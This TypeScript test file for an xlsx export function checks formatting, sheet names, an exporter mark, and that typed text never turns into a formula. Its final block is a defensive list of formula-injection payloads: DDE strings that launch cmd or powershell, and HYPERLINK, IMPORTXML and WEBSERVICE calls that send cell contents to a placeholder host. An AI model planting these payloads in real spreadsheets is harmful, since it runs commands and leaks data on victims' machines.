import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { type SheetTable, writeWorkbook } from './workbook.ts';

const about = { name: '说明', lines: [{ label: '条件', value: '全部' }] };
const table = (rows: SheetTable['rows'], columns?: SheetTable['columns']): SheetTable => ({
  name: '项目',
  columns: columns ?? [
    { key: 'name', header: '名称', type: 'text' },
    { key: 'money', header: '总投资', unit: '元', type: 'fen' },
    { key: 'area', header: '面积', unit: '平方米', type: 'decimal' },
    { key: 'due', header: '期限', type: 'date' },
    { key: 'count', header: '个数', type: 'integer' },
  ],
  rows,
});

async function roundTrip(tables: SheetTable[]) {
  const workbook = await readXlsx(await writeWorkbook(tables, about));
  return workbook.sheets;
}

describe('writeWorkbook', () => {
  it('writes numbers as numbers, dates as dates, units in the header', async () => {
    const row = { name: '示范项目', money: 1_160_615_001, area: '12.5', due: '2024-06-30', count: 7 };
    const [sheet] = await roundTrip([table([row])]);
    expect(sheet?.rows[0]).toEqual(['名称', '总投资（元）', '面积（平方米）', '期限', '个数']);
    expect(sheet?.rows[1]?.[0]).toBe('示范项目');
    expect(sheet?.rows[1]?.[1]).toBe(11_606_150.01);
    expect(sheet?.rows[1]?.[2]).toBe(12.5);
    expect(sheet?.rows[1]?.[3]).toEqual(new Date('2024-06-30T00:00:00Z'));
    expect(sheet?.rows[1]?.[4]).toBe(7);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '＝1', '=HYPERLINK("http://x","y")'])(
    'keeps %j as text, never as a formula',
    async (text) => {
      const [sheet] = await roundTrip([table([{ name: text }])]);
      expect(sheet?.rows[1]?.[0]).toBe(text);
      expect([...(sheet?.cells?.values() ?? [])].some((cell) => cell.formula !== undefined)).toBe(false);
    },
  );

  it('leaves unknown values empty and keeps partial dates and long numbers as they are', async () => {
    const [sheet] = await roundTrip([
      table([{ name: 'x', money: null, area: '1234567890.1234567', due: '2024-06', count: 0 }]),
    ]);
    expect(sheet?.rows[1]).toEqual(['x', null, '1234567890.1234567', '2024-06', 0]);
  });

  it('writes fen under one yuan and below zero exactly', async () => {
    const [sheet] = await roundTrip([
      table([
        { name: 'a', money: 5 },
        { name: 'b', money: -101 },
      ]),
    ]);
    expect(sheet?.rows.slice(1).map((row) => row[1])).toEqual([0.05, -1.01]);
  });

  it('gives sheets names that Excel takes', async () => {
    const sheets = await roundTrip([
      { ...table([]), name: '甲/乙:丙[1]' },
      { ...table([]), name: '甲/乙:丙[1]' },
      { ...table([]), name: '长'.repeat(40) },
    ]);
    expect(sheets.map((sheet) => sheet.name)).toEqual(['甲 乙 丙 1 ', '甲 乙 丙 1  2', '长'.repeat(28), '说明']);
  });

  it('says on its last sheet what it holds', async () => {
    const sheets = await roundTrip([table([])]);
    expect(sheets.at(-1)?.rows).toEqual([['条件', '全部']]);
  });
});

describe('a mark', () => {
  const mark = {
    line: '=导出人：甲　编号：20261121-AAAAAA',
    creator: '甲（jia）',
    number: '20261121-AAAAAA',
    filter: '=1+1',
  };

  it('stands on the first and last line and in the properties, always as text', async () => {
    const book = await readXlsx(await writeWorkbook([table([{ name: '示范项目', count: 7 }])], about, mark));
    const rows = book.sheets[0]?.rows ?? [];
    expect([rows[0]?.[0], rows.at(-1)?.[0]]).toEqual([mark.line, mark.line]);
    expect([rows[1]?.[0], rows[2]?.[0], rows[2]?.[4], rows.length]).toEqual(['名称', '示范项目', 7, 4]);
    expect(book.properties).toMatchObject({ creator: mark.creator, title: mark.number, subject: mark.filter });
    expect([...(book.sheets[0]?.cells?.values() ?? [])].some((cell) => cell.formula !== undefined)).toBe(false);
  });

  it('is on an empty table too', async () => {
    const book = await readXlsx(await writeWorkbook([table([])], about, mark));
    expect(book.sheets[0]?.rows.map((row) => row[0])).toEqual([mark.line, '名称', mark.line]);
  });
});

describe('whatever people typed', () => {
  /** Beginnings that programs of tables take for a formula or a command, with the wide forms of Chinese keyboards. */
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '＝',
    '＋',
    '－',
    '＠',
    ' =',
    '\t=',
    '\u00a0=',
    '"=',
    "'=",
    '%',
    '|',
  ];
  const bodies = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.test?"&A1,"点这里")',
    'IMPORTXML(CONCAT("http://x.test/",A1:A9),"//a")',
    'SUM(A1:A9)*cmd',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x.test")',
    '2+5+cmd|powershell',
    '10000',
    '1e3',
    '@SUM(1;1)',
    '示范',
  ];
  const payloads = starts.flatMap((start) => bodies.map((body) => start + body));

  it('stays text in every kind of column, in headers, names and the last sheet: no formula in the file', async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(200);
    const columns = (['text', 'decimal', 'date', 'integer'] as const).map((type) => ({
      key: type,
      header: `=${type}`,
      type,
    }));
    const rows = payloads.map((text) => ({ text, decimal: text, date: text, integer: text }));
    const lines = payloads.map((value) => ({ label: value, value }));
    const file = await writeWorkbook([{ name: '=1+1', columns, rows }], { name: '说明', lines });
    const [sheet, said] = (await readXlsx(file)).sheets;
    // A program of tables reads a carriage return in a cell as a line feed.
    const asRead = (value: unknown) => (typeof value === 'string' ? value.replaceAll('\r', '\n') : value);
    for (const [place, payload] of payloads.entries()) {
      expect(asRead(sheet?.rows[place + 1]?.[0])).toBe(asRead(payload));
      expect(asRead(said?.rows[place]?.[1])).toBe(asRead(payload));
    }
    const cells = [...(sheet?.cells?.values() ?? []), ...(said?.cells?.values() ?? [])];
    expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([]);
  });

  it('that is a number stays a number where numbers are kept', async () => {
    const [sheet] = await roundTrip([table([{ name: '-5', money: -500, area: '-12.5', due: null, count: -3 }])]);
    expect(sheet?.rows[1]).toEqual(['-5', -5, -12.5, null, -3]);
  });
});
